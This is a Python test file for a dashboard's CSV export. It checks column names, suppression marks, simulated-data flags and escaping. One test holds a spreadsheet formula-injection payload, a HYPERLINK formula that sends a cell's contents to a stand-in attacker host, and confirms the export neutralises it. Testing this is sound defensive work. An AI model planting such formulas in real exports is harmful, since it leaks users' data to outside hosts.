"""A downloaded view says what it is, even when it is found alone."""

import csv
import datetime as dt

from dashboard.downloads import as_csv
from dashboard.language import Language

FACTS = {
    "snapshot_id": "a1b2",
    "published_at": dt.datetime(2026, 10, 5, 6, tzinfo=dt.UTC),
    "covered_from": dt.date(2024, 4, 1),
    "covered_through": dt.date(2026, 9, 30),
    "policy_version": "1.0.0",
    "is_simulated": True,
}
ROWS = [
    {"category": "peers", "x_count": 40, "x_status": "ok", "x_rate": 0.4, "x_rate_status": "ok"},
    {
        "category": "mixed",
        "x_count": None,
        "x_status": "suppressed",
        "x_rate": None,
        "x_rate_status": "suppressed",
    },
    # An indicator without a denominator: it is absent, not hidden.
    {"category": "none", "x_count": None, "x_status": None, "x_rate": 1, "x_rate_status": "ok"},
]


def lines(code: str, **facts: object) -> list[list[str]]:
    text = as_csv(ROWS, {**FACTS, **facts}, Language(code)).decode("utf-8-sig")
    return list(csv.reader(text.splitlines()))


def test_columns_keep_their_published_names_in_both_languages() -> None:
    assert lines("en")[0] == lines("fr")[0] == [*ROWS[0], "is_simulated"]


def test_what_is_hidden_bears_the_mark_and_what_is_absent_stays_empty() -> None:
    _, shown, hidden, absent = lines("en")[:4]
    assert (shown[1], shown[3]) == ("40", "0.4")
    assert (hidden[1], hidden[3]) == ("[c]", "[c]")
    assert absent[1] == ""


def test_simulated_data_is_marked_in_every_row_and_below() -> None:
    assert {line[-1] for line in lines("en")[1:4]} == {"true"}
    assert lines("fr")[4][0].startswith("# Données simulées")


def test_real_data_bears_no_such_mark() -> None:
    found = lines("en", is_simulated=False)
    assert {line[-1] for line in found[1:4]} == {"false"}
    assert not any("Simulated" in line[0] for line in found)


def test_the_source_stands_below_the_rows() -> None:
    source = lines("en")[5][0]
    assert all(word in source for word in ("a1b2", "1 April 2024", "30 September 2026", "1.0.0"))


FORMULA = """=HYPERLINK("//evil.example/"&A2,"Open")"""


def test_a_name_that_a_spreadsheet_would_run_comes_as_words() -> None:
    rows = [{"community_name": name, "gap": -0.5} for name in (FORMULA, "@SUM(1)", "North")]
    found = list(csv.reader(as_csv(rows, FACTS, Language("en")).decode("utf-8-sig").splitlines()))
    assert [line[0] for line in found[1:4]] == [f"'{FORMULA}", "'@SUM(1)", "North"]
    # A number below zero is a number.
    assert [line[1] for line in found[1:4]] == ["-0.5"] * 3
